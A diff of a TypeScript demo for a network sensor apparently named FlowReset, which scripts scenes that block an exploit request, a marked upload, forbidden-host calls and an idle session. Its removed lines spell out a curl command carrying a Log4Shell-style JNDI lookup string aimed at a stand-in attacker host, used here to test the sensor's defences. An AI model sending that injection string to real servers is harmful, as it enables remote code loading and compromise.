@@ -1,167 +1,168 @@
-/** The scenes of the demo, in the order in which they are played. */
-import { readFileSync } from "node:fs";
-import { join } from "node:path";
-import { SshServer, sshUnsupported, until, url } from "../mod.ts";
-import type { Station } from "../mod.ts";
-import { expectThat, outcomeText } from "./stage.ts";
-import type { Scene, Stage } from "./stage.ts";
+/** The scenes of the demo, in the order in which they are played. The download beside them is the demo's own. */
+import { THINKING_MS } from "./webServer.ts";
+import { callForbidden, exploitRequest, upload, UPLOAD_BYTES } from "./attacks.ts";
+import { bytesExchanged, socketStates } from "./idleSession.ts";
+import { example, expectThat, Hearing, inForce, POLICY_FILES } from "./stage.ts";
+import type { Stage } from "./stage.ts";
+import { bytesText, duration, killStory } from "./story.ts";
+import type { Scene } from "./story.ts";
+import { until } from "../mod.ts";
 
-const EXAMPLES = join(import.meta.dirname, "../../../examples");
-/** A web application that thinks for 50 ms before it answers. */
-export const APPLICATION_PORT = 8_080;
-export const APPLICATION = `require("http").createServer((q, a) => setTimeout(() => a.end("ok\\n"), 50)).listen(${APPLICATION_PORT}, "::", () => console.log("up"))`;
-const MARK = "TOP-SECRET-CLOUDBERRY";
-const UPLOAD_BYTES = 4e9;
-const MARK_AT = 20e6;
-const FLOWRESET_TIMEOUT_MS = 15_000;
+const NEIGHBOUR_FILE = "forbid-neighbour.yaml";
+const IDLE_AT_LEAST_MS = 1_000;
+const OBSERVED_PATIENCE_MS = 300;
 
-/** An HTTP request with an exploit string, by real curl, from outside to the server pod. */
-async function exploit({ net, say }: Stage): Promise<{ code: number | null; text: string }> {
-  const target = url(net.server.ipv4, APPLICATION_PORT);
-  say(`curl from outside: GET / with the header X-Api-Version: \${jndi:ldap://...}`);
-  const { code, stdout, stderr } = await net.outside.run(["curl", "-sS", "-m", "10", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}", target], { check: false });
-  return { code, text: code === 0 ? stdout : stderr.trim() };
+/** The example that forbids a network, for the pod next door. */
+function forbidNeighbour({ neighbour }: Stage, mode: string): string {
+  return example("forbid-host.yaml").replace("name: forbid-host", "name: forbid-neighbour")
+    .replace("198.51.100.0/24", `${neighbour.ipv4}/32`).replace("mode: Enforce", `mode: ${mode}`);
 }
 
-let uploads = 0;
+/** Two scenes are races: a busy machine that keeps the sensor waiting may lose one, which is told, and run again. */
+const TRIES = 3;
 
-async function upload(stage: Stage, bytes: number): Promise<{ error: string | undefined; passed: number; port: number; sent: number }> {
-  const listener = await stage.server.listen({ port: 9_000 + ++uploads, behaviour: "sink", trigger: MARK });
-  const connection = await stage.client.connect({ host: stage.net.server.ipv4, port: listener.port });
-  const accepted = await listener.acceptedFrom(connection.localPort);
-  stage.say(`an upload at full speed begins; the marked document stands ${MARK_AT / 1e6} MB into it`);
-  connection.flood({ bytes, trigger: MARK, triggerAt: MARK_AT });
-  if (bytes < UPLOAD_BYTES) {
-    await accepted.received(bytes);
-    connection.finish();
+async function race<T>(stage: Stage, run: () => Promise<T>, isLost: (result: T) => boolean): Promise<T> {
+  for (let left = TRIES; ; left--) {
+    const result = await run();
+    if (!isLost(result) || left === 1) return result;
+    stage.say("sensor", "was too late: this machine kept it waiting; once more");
   }
-  const { error } = await connection.closed;
-  const { statistics } = await accepted.closed;
-  return { error, passed: statistics.bytesAfterTrigger ?? 0, port: connection.localPort, sent: statistics.receivedBytes };
-}
-
-async function call(stage: Stage, to: Station, port: number): Promise<string> {
-  const connection = stage.client.open({ host: to.ipv4, port });
-  return Promise.race([
-    connection.connected.then(() => connection.closed).then(({ error }) => error ?? "closed", (error: Error) => error.message),
-    new Promise<string>((resolve) => setTimeout(() => resolve("connected"), 2_000)),
-  ]);
-}
-
-function lastOutcome({ sensor }: Stage, policy: string, since: number): Promise<Awaited<ReturnType<typeof sensor.event>>> {
-  return sensor.event(`an outcome of ${policy}`, (event) => event.event_type === "outcome" && event.flowreset.policy === `default/${policy}` && sensor.events.indexOf(event) >= since);
 }
 
 export const SCENES: readonly Scene[] = [
   {
-    title: "an exploit in an HTTP request: cut before the answer",
+    letter: "a",
+    name: "exploit in a request",
+    title: `An HTTP request with an exploit string: cut before the application, which thinks for ${THINKING_MS} ms, answers`,
     async play(stage) {
-      const since = stage.sensor.events.length;
-      const { code, text } = await exploit(stage);
-      expectThat(code !== 0 && text !== "ok\n", `curl gets no answer: it got ${JSON.stringify(text)}`);
-      const outcome = await lastOutcome(stage, "block-exploit", since);
+      const run = async () => ({ hearing: new Hearing(stage.sensor, "block-exploit"), ...(await exploitRequest(stage)) });
+      const { hearing, exitCode, bodyBytes, words } = await race(stage, run, (result) => result.exitCode === 0);
+      const { alert } = await hearing.event("alert");
+      stage.say("sensor", `sees "${alert!.signature}" and cuts the connection`);
+      stage.say("outside", `${words}; ${bodyBytes} bytes of an answer came`);
+      expectThat(exitCode === 56 && bodyBytes === 0, `curl is reset (exit 56) without a byte of an answer: exit ${exitCode}, ${bodyBytes} bytes`);
+      const outcome = await hearing.event("outcome");
       expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
-      return `curl: ${text}; ${outcomeText(outcome)}`;
+      const story = killStory(outcome, "block-exploit");
+      return { ...story, text: `${story.text} (its client is 20 ms away)` };
     },
   },
   {
-    title: "a marked document in a full-speed upload: cut in mid-stream",
+    letter: "b",
+    name: "marked upload",
+    title: "An upload at full speed, and a marked document in the middle of it: cut in mid-stream",
     async play(stage) {
-      const { error, passed, port, sent } = await upload(stage, UPLOAD_BYTES);
-      expectThat(error !== undefined && sent < UPLOAD_BYTES, `the upload breaks: it ended with ${error} after ${sent} bytes`);
-      const outcome = await stage.sensor.outcome(port);
+      const hearing = new Hearing(stage.sensor, "stop-marked-document");
+      const { error, arrivedBytes, passedBytes, bytesPerSecond } = await upload(stage, UPLOAD_BYTES);
+      const { alert } = await hearing.event("alert");
+      stage.say("sensor", `sees "${alert!.signature}" and cuts the connection`);
+      stage.say("client", `${error ?? "an orderly end"} after ${bytesText(arrivedBytes)} of ${bytesText(UPLOAD_BYTES)}, at ${bytesText(bytesPerSecond)} a second`);
+      expectThat(error !== undefined && arrivedBytes < UPLOAD_BYTES, "the upload breaks off");
+      expectThat(passedBytes >= 0, "the server has seen the mark");
+      const outcome = await hearing.event("outcome");
       expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
-      return outcomeText(outcome, passed);
+      return killStory(outcome, "stop-marked-document", passedBytes, "mark");
     },
   },
   {
-    title: "a forbidden host 20 ms away: refused in the handshake",
+    letter: "c",
+    name: "forbidden, 20 ms away",
+    title: "A call to a forbidden host 20 ms away: refused in the handshake",
     async play(stage) {
-      const since = stage.sensor.events.length;
-      await stage.outside.listen({ port: 4_443, behaviour: "sink" });
-      stage.say("the client pod calls a host of a forbidden network");
-      const answer = await call(stage, stage.net.outside, 4_443);
-      expectThat(answer.includes("ECONNREFUSED"), `the client sees ECONNREFUSED: it saw ${answer}`);
-      const outcome = await lastOutcome(stage, "forbid-host", since);
-      expectThat(outcome.flowreset.reason === "RefusedBeforeEstablished", `the outcome says so: ${outcome.flowreset.reason}`);
-      return `the client saw ${answer}; ${outcomeText(outcome)}`;
+      const run = async () => ({ hearing: new Hearing(stage.sensor, "forbid-host"), answer: await callForbidden(stage, stage.net.outside) });
+      const { hearing, answer } = await race(stage, run, (result) => result.answer === "ECONNRESET");
+      stage.say("client", `sees ${answer}, long before the host could have answered`);
+      expectThat(answer === "ECONNREFUSED", `the client sees ECONNREFUSED: it saw ${answer}`);
+      const outcome = await hearing.event("outcome");
+      const { outcome: verdict, reason } = outcome.flowreset;
+      expectThat(verdict === "Confirmed" && reason === "RefusedBeforeEstablished", `the refusal is confirmed: ${verdict}, ${reason}`);
+      return killStory(outcome, "forbid-host", undefined, "SYN");
     },
   },
   {
-    title: "a forbidden host next door, where the refusal may lose the race",
+    letter: "c",
+    name: "forbidden, next door",
+    title: "A call to a forbidden host next door, whose answer may be quicker than ours: refused, or cut at once",
     async play(stage) {
-      const since = stage.sensor.events.length;
-      const near = await stage.net.addPod("neighbour", 13);
-      const listening = near.start([process.execPath, "-e", "require('net').createServer((s) => s.on('error', () => {})).listen(4443, () => console.log('up'))"]);
-      await listening.waitForOutput(/up/);
-      stage.sensor.write("forbid-neighbour.yaml", readFileSync(join(EXAMPLES, "forbid-host.yaml"), "utf8").replace("name: forbid-host", "name: forbid-neighbour").replace("198.51.100.0/24", `${near.ipv4}/32`));
-      await until("the new policy in force", async () => (await stage.sensor.metric("flowreset_policies_loaded")) === 4);
-      stage.say("a new policy file was dropped into the directory and is in force");
-      const answer = await call(stage, near, 4_443);
-      expectThat(/ECONNREFUSED|ECONNRESET/.test(answer), `the client is refused or cut at once: it saw ${answer}`);
-      const outcome = await lastOutcome(stage, "forbid-neighbour", since);
-      expectThat(/^(RefusedBeforeEstablished|CutAfterEstablished)$/.test(outcome.flowreset.reason), `the outcome says which it was: ${outcome.flowreset.reason}`);
-      stage.sensor.remove("forbid-neighbour.yaml");
-      return `the client saw ${answer}; ${outcomeText(outcome)}`;
+      stage.say("node", `the file ${NEIGHBOUR_FILE} is dropped into the sensor's directory`);
+      stage.sensor.write(NEIGHBOUR_FILE, forbidNeighbour(stage, "Enforce"));
+      await inForce(stage.sensor, POLICY_FILES.length + 1);
+      const hearing = new Hearing(stage.sensor, "forbid-neighbour");
+      const answer = await callForbidden(stage, stage.neighbour);
+      const outcome = await hearing.event("outcome");
+      const { outcome: verdict, reason } = outcome.flowreset;
+      stage.say("client", `sees ${answer}: ${reason === "RefusedBeforeEstablished" ? "our refusal came first" : "the host's answer came first, and the connection was cut at once"}`);
+      expectThat(/^(ECONNREFUSED|ECONNRESET|EPIPE)$/.test(answer), `the client is refused or cut at once: it saw ${answer}`);
+      expectThat(verdict === "Confirmed" && /^(RefusedBeforeEstablished|CutAfterEstablished)$/.test(reason), `the outcome says which it was: ${verdict}, ${reason}`);
+      return killStory(outcome, "forbid-neighbour", undefined, "SYN");
     },
   },
   {
-    title: "a FlowReset file kills an idle session",
+    letter: "d",
+    name: "idle session",
+    title: "A FlowReset file kills one idle session, whose packets the sensor has never seen",
     async play(stage) {
-      const unsupported = sshUnsupported();
-      const session = unsupported === undefined ? await sshSession(stage) : await plainSession(stage, unsupported);
-      stage.say(`${session.what} is idle; kill-session.yaml is dropped into the directory`);
-      stage.sensor.write("kill-session.yaml", `apiVersion: flowreset.io/v1alpha1
-kind: FlowReset
-metadata: {name: kill-session}
-spec:
-  match: {client: {ip: ${stage.net.client.ipv4}}, server: {ip: ${stage.net.server.ipv4}, port: ${session.port}}}
-  reason: demo
-`);
-      const outcome = await stage.sensor.event("the outcome of the FlowReset", ({ event_type, flowreset }) => event_type === "outcome" && flowreset.flow_reset === "default/kill-session", FLOWRESET_TIMEOUT_MS);
+      const { net, sensor, idle, idleTwin } = stage;
+      const before = await bytesExchanged(net, idle);
+      await new Promise((resolve) => setTimeout(resolve, IDLE_AT_LEAST_MS));
+      expectThat(before !== "gone" && (await bytesExchanged(net, idle)) === before, `the ${idle.kind} is alive and idle: ${before}`);
+      const hearing = new Hearing(sensor, "kill-session");
+      stage.say("node", `resets/kill-session.yaml is dropped into the directory: client port ${idle.clientPort}, not its twin's ${idleTwin.clientPort}`);
+      const droppedMs = Date.now();
+      sensor.write("kill-session.yaml", example("resets/kill-session.yaml").replace("{ip: 192.0.2.7}", `{ip: ${net.client.ipv4}, port: ${idle.clientPort}}`)
+        .replace("{ip: 203.0.113.9, port: 22}", `{ip: ${net.server.ipv4}, port: ${idle.serverPort}}`));
+      const outcome = await hearing.event("outcome");
       expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
-      const states = await Promise.all([
-        stage.net.client.namespace.socketState({ remotePort: session.port }),
-        stage.net.server.namespace.socketState({ localPort: session.port }),
-      ]);
-      expectThat(states.every((state) => state === "gone"), `ss shows it at neither end: ${states.join(", ")}`);
-      return `${session.what} is gone at both ends; ${outcomeText(outcome)}`;
+      stage.say("sensor", "asks one end for its numbers (a SYN draws a challenge ACK) and resets both with exactly those");
+      const deadUs = (Date.parse(outcome.timestamp) - droppedMs) * 1000;
+      stage.say("client", await idle.ending());
+      const states = await until("both sockets gone", async () => {
+        const found = await socketStates(net, idle);
+        return found.every((state) => state === "gone") ? found : undefined;
+      }).catch(() => socketStates(net, idle));
+      stage.say("node", `ss at the client: ${states[0]}; at the server: ${states[1]}`);
+      expectThat(states.every((state) => state === "gone"), `ss shows the socket at neither end: ${states.join(", ")}`);
+      await idleTwin.echo("still here");
+      stage.say("client", `the other ${idle.kind} still answers`);
+      const rstLeftUs = deadUs - (outcome.flowreset.time_to_confirmed_us ?? 0);
+      const text = `RST left ${duration(rstLeftUs)} after the file was there; 0 B passed; both ends proved dead after ${duration(deadUs)}`;
+      return { ...killStory(outcome, "kill-session.yaml"), rstLeftUs, deadUs, text };
     },
   },
   {
-    title: "the same attacks under mode: Observe: nothing dies, would is counted",
+    letter: "e",
+    name: "all under Observe",
+    title: "The same attacks under mode: Observe: nothing dies, and what would have is counted",
     async play(stage) {
-      const before = await stage.sensor.metric("flowreset_would_resets_total");
-      for (const file of ["block-exploit.yaml", "stop-marked-document.yaml", "forbid-host.yaml"]) stage.sensor.remove(file);
-      await until("the enforcing policies gone", async () => (await stage.sensor.metric("flowreset_policies_loaded")) === 0);
-      stage.sensor.write("policies.yaml", readFileSync(join(EXAMPLES, "observe/policies.yaml"), "utf8"));
-      const since = stage.sensor.events.length;
-        await new Promise((resolve) => setTimeout(resolve, 500));
-      const { code, text } = await exploit(stage);
-      expectThat(code === 0 && text === "ok\n", `curl gets its answer: exit ${code}, ${JSON.stringify(text)}`);
-      const { error, sent } = await upload(stage, MARK_AT + 20e6);
-      expectThat(error === undefined && sent >= MARK_AT + 20e6, `the upload arrives whole: ${error ?? sent}`);
-      const answer = await call(stage, stage.net.outside, 4_443);
-      expectThat(answer === "connected", `the forbidden host answers: ${answer}`);
-      await until("three more would-resets", async () => (await stage.sensor.metric("flowreset_would_resets_total")) >= before + 3);
-      const did = stage.sensor.events.slice(since).filter(({ event_type }) => event_type !== "alert");
+      const { sensor, net, neighbour } = stage;
+      for (const file of [...POLICY_FILES, NEIGHBOUR_FILE, "kill-session.yaml"]) sensor.remove(file);
+      await inForce(sensor, 0);
+      sensor.write("policies.yaml", example("observe/policies.yaml"));
+      sensor.write(NEIGHBOUR_FILE, forbidNeighbour(stage, "Observe"));
+      await inForce(sensor, POLICY_FILES.length + 1);
+      stage.say("node", "observe/policies.yaml takes the place of the policies");
+      const before = await sensor.metric("flowreset_would_resets_total");
+      const since = sensor.events.length;
+      const { exitCode, bodyBytes } = await exploitRequest(stage);
+      stage.say("outside", `curl has its answer of ${bodyBytes} bytes`);
+      expectThat(exitCode === 0 && bodyBytes > 0, `curl gets its answer: exit ${exitCode}, ${bodyBytes} bytes`);
+      const wanted = 60e6;
+      const { error, arrivedBytes } = await upload(stage, wanted);
+      stage.say("client", `the upload has arrived: ${bytesText(arrivedBytes)} of ${bytesText(wanted)}`);
+      expectThat(error === undefined && arrivedBytes === wanted, `the upload arrives whole: ${error ?? arrivedBytes}`);
+      for (const host of [net.outside, neighbour]) {
+        const answer = await callForbidden(stage, host, OBSERVED_PATIENCE_MS);
+        stage.say("client", `is ${answer}`);
+        expectThat(answer === "answered", `the forbidden host ${host.ipv4} answers: ${answer}`);
+      }
+      const would = await until("four more would-resets", async () => {
+        const more = (await sensor.metric("flowreset_would_resets_total")) - before;
+        return more >= 4 ? more : undefined;
+      });
+      stage.say("metrics", `flowreset_would_resets_total has grown by ${would}`);
+      const did = sensor.events.slice(since).filter(({ event_type: type }) => type !== "alert");
       expectThat(did.length === 0, `nothing is reset: ${JSON.stringify(did[0])}`);
-      return "curl got its answer, the upload arrived, the host answered; 3 times would, 0 times did";
+      return { text: `four attacks, ${would} would-resets counted, 0 RSTs sent, nothing died`, seen: "observe/policies.yaml", outcome: `${would} would-resets, nothing died` };
     },
   },
 ];
-
-async function sshSession({ net }: Stage): Promise<{ what: string; port: number }> {
-  const server = await SshServer.start(net.server);
-  await server.session(net.client);
-  return { what: "a real ssh session", port: server.port };
-}
-
-async function plainSession(stage: Stage, why: string): Promise<{ what: string; port: number }> {
-  stage.say(`no ssh here (${why}): a plain TCP session stands for it`);
-  const listener = await stage.server.listen({ port: 9_100, behaviour: "echo" });
-  const connection = await stage.client.connect({ host: stage.net.server.ipv4, port: listener.port });
-  connection.write("hello");
-  await connection.received(5);
-  return { what: "a TCP session", port: listener.port };
-}
